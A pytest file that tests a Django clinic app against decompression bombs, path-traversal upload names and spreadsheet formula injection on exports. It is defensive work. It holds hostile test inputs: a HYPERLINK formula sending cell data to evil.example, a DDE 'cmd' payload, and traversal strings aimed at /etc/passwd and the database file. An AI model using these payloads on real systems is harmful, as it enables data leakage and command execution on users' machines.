"""Files that come in and files that go out: bombs, names that climb out of their folder, cells that are run."""

import csv
import gzip
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from clinic.models import Clinic, User
from patients.models import Patient
from tests.addresses import STAFF
from tests.attacks.reading import body_of
from tests.attacks.test_scripts import spoil
from tests.builders import make_injector
from tests.conftest import log_in
from tests.treatments.referrals.lists import as_csv, row
from tests.world import World
from treatments.log.export import safe_cell

LARGE = b"0" * 50_000_000
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")\r\n+cmd|\' /C calc\'!A0'
SHORT_FORMULA = "@SUM(A1)"


def zipped(name: str) -> bytes:
    """Return 50 MB in a few kB, as an archive and as a workbook are packed."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, LARGE)
    return file.getvalue()


@pytest.fixture(autouse=True)
def folder(settings: Any, tmp_path: Path) -> Path:
    """A place of this test's own for uploaded files."""
    settings.VAR_DIR = tmp_path / "var"
    return tmp_path


@pytest.fixture
def importer(admin: User) -> Client:
    """The browser of somebody who may import."""
    return log_in(admin)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(zipped("list.csv"), id="zip"),
        pytest.param(zipped("xl/worksheets/sheet1.xml"), id="workbook"),
        pytest.param(gzip.compress(LARGE), id="gzip"),
    ],
)
def test_a_bomb_named_csv_is_refused_and_not_unpacked(
    importer: Client, folder: Path, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unpacked(*words: Any, **more: Any) -> None:
        raise AssertionError("it was unpacked")

    file = SimpleUploadedFile("list.csv", content, "text/csv")
    for way in ("zlib.decompressobj", "zipfile.ZipFile.__init__", "gzip.GzipFile.__init__"):
        monkeypatch.setattr(way, unpacked)
    answer = importer.post("/import/", {"file": file}, headers={"Content-Encoding": "gzip"})
    assert answer.status_code == 422
    assert b"not a CSV file" in answer.content or b"not in UTF-8" in answer.content
    assert [path for path in folder.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(
    "name",
    [
        "../../../../evil.csv",
        "..\\..\\evil.csv",
        "/etc/evil.csv",
        "C:\\evil.csv",
        "evil.csv%00.png",
        "evil\r\nSet-Cookie: x=y",
        ".",
        "..",
        "x" * 3000,
    ],
)
def test_the_name_of_a_file_leads_nowhere(importer: Client, folder: Path, name: str) -> None:
    body = (
        b'--abc\r\nContent-Disposition: form-data; name="file"; filename="'
        + name.encode()
        + b'"\r\n\r\n'
        + as_csv([row()]).read()
        + b"\r\n--abc--\r\n"
    )
    answer: Any = importer.post("/import/", body, content_type="multipart/form-data; boundary=abc")
    kept = [path for path in folder.rglob("*") if path.is_file()]
    assert [path.parts[len(folder.parts) :][:2] for path in kept] == [("var", "uploads")] * len(kept)
    assert "evil" not in f"{kept} {answer.headers}"
    if answer.status_code == 302:
        page = importer.get(answer.headers["Location"])
        assert b"evil" not in page.content


@pytest.mark.parametrize("uid", ["..%2f..%2fetc%2fpasswd", "..", "%00", "../../clinic.sqlite3"])
def test_no_address_of_an_upload_climbs_out_of_its_folder(importer: Client, uid: str) -> None:
    for end in ("", "confirm/", "discard/"):
        assert importer.post(f"/import/{uid}/{end}").status_code in {404, 405}


def test_no_cell_of_any_file_that_goes_out_is_run(world: World, insider: Client, settings: Any) -> None:
    settings.DEMO = True
    spoilt = spoil(FORMULA, SHORT_FORMULA)
    assert {"Patient.given_name", "Injector.name", "User.full_name", "Clinic.name"} <= spoilt
    texts, names = 0, set[str]()
    for name in sorted(STAFF):
        answers: list[Any] = [insider.get(world.url(name))]
        if answers[0].headers["Content-Type"].startswith("text/csv"):
            answers.append(insider.get(world.url(name), {"format": "xlsx"}))
        for answer in answers:
            cells = cells_of(answer)
            names |= {name} if cells else set()
            texts += len([cell for cell in cells if "HYPERLINK" in cell or "SUM(A1)" in cell])
            assert [cell for cell in cells if cell != safe_cell(cell) and not is_number(cell)] == [], name
    assert {"treatments:export", "reports:export", "privacy:export_looks"} <= names
    assert texts > 5


def cells_of(answer: Any) -> list[str]:
    """Return all text of a table that is handed out as a file; nothing of other answers."""
    kind = answer.headers["Content-Type"].partition(";")[0]
    body = body_of(answer)
    if kind == "text/csv":
        return [cell for line in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in line]
    if not kind.endswith("spreadsheetml.sheet"):
        return []
    cells = [cell for line in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for cell in line]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [str(cell.value) for cell in cells if cell.data_type in {"s", "inlineStr"}]


def is_number(cell: str) -> bool:
    """Return whether a cell is a number, which may be below nought."""
    return cell.removeprefix("-").replace(".", "", 1).isdigit()


def test_a_formula_that_was_imported_goes_out_as_text(riverside: Clinic, importer: Client) -> None:
    make_injector(riverside, "Dr Osei")
    wanted = row(given_name="=1+1", family_name="@SUM(A1)")
    sent: Any = importer.post("/import/", {"file": SimpleUploadedFile("list.csv", as_csv([wanted]).read())})
    importer.post(f"{sent.headers['Location']}confirm/")
    assert Patient.objects.get(clinic=riverside).given_name == "=1+1"
    cells = cells_of(importer.get("/log/export/"))
    assert "'=1+1 @SUM(A1)" in cells
